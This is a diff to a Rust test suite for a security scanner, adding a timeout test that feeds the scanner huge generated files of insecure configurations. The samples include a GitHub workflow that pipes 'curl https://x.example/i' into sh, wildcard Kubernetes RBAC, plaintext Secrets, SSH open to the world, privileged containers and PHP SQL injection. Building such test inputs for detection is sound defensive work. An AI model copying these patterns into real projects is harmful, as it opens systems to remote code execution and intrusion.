@@ -5,8 +5,10 @@ use std::fmt::Write as _;
 use std::sync::mpsc;
 use std::time::Duration;
 
+use guard::Engine;
+use guard::blob::Regions;
 use guard::detect::{make, probe};
-use guard::rule::{Example, Random, Rules, fill};
+use guard::rule::{Example, Level, Random, Rules, fill};
 
 #[path = "../../fuzz/targets.rs"]
 #[expect(unreachable_pub, reason = "it is a crate of its own in fuzz/")]
@@ -219,4 +221,72 @@ fn a_bomb_of_aliases_or_entities_is_not_unfolded() {
     });
     let xml = format!("<!DOCTYPE a [<!ENTITY e0 \"xxxxxxxx\">{entities}]><a>&e59;</a>");
     read_by_all("entities", xml.as_bytes());
+}
+
+/// Scans a text with every rule on, in a thread that is given up after a minute: a check that searches the whole
+/// file for each of its settings takes longer on these.
+fn scan_with_all_rules(path: &'static str, text: String) {
+    let (send, receive) = mpsc::channel();
+    let thread = std::thread::Builder::new().spawn(move || {
+        let mut rules = Rules::builtin();
+        for index in rules.indexes() {
+            rules.set_level(index, rules.level(index).max(Level::Warn));
+        }
+        let found = Engine::new(rules).scan(text.as_bytes(), &Regions::Whole, Some(path.into()));
+        let _ = send.send(found.len());
+    });
+    thread.expect("a thread");
+    let found = receive.recv_timeout(Duration::from_mins(1));
+    let found = found.unwrap_or_else(|error| panic!("{path}: {error}"));
+    assert!(found > 0, "{path}");
+}
+
+#[test]
+fn a_file_of_ten_thousand_settings_is_not_searched_for_each_of_them() {
+    let many = |start: &str, piece: fn(usize) -> String| {
+        (0..10_000).fold(start.to_owned(), |text, number| text + &piece(number))
+    };
+    scan_with_all_rules(
+        ".github/workflows/a.yml",
+        many("on: pull_request_target\njobs:\n", |number| {
+            format!(
+                "  j{number}:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n        with: {{ref: '${{{{ github.head_ref }}}}'}}\n      - run: curl https://x.example/i | sh\n"
+            )
+        }),
+    );
+    scan_with_all_rules(
+        "role.yaml",
+        many(
+            "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nrules:\n",
+            |_| "- {apiGroups: [''], resources: ['*'], verbs: ['*']}\n".to_owned(),
+        ),
+    );
+    scan_with_all_rules(
+        "pods.yaml",
+        many("", |number| {
+            format!(
+                "---\napiVersion: v1\nkind: Secret\nmetadata: {{name: s{number}}}\nstringData: {{a: b{number}cdefg}}\n"
+            )
+        }),
+    );
+    scan_with_all_rules(
+        "main.tf",
+        many("", |number| {
+            format!(
+                "resource \"aws_security_group_rule\" \"r{number}\" {{\n  type = \"ingress\"\n  from_port = 22\n  to_port = 22\n  cidr_blocks = [\"0.0.0.0/0\"]\n}}\n"
+            )
+        }),
+    );
+    scan_with_all_rules(
+        "compose.yml",
+        many("services:\n", |number| {
+            format!("  s{number}:\n    image: nginx\n    privileged: true\n")
+        }),
+    );
+    scan_with_all_rules(
+        "a.php",
+        many("<?php\n", |number| {
+            format!("$v{number} = $_GET['a'];\n$db->query(\"SELECT $v{number}\");\n")
+        }),
+    );
 }
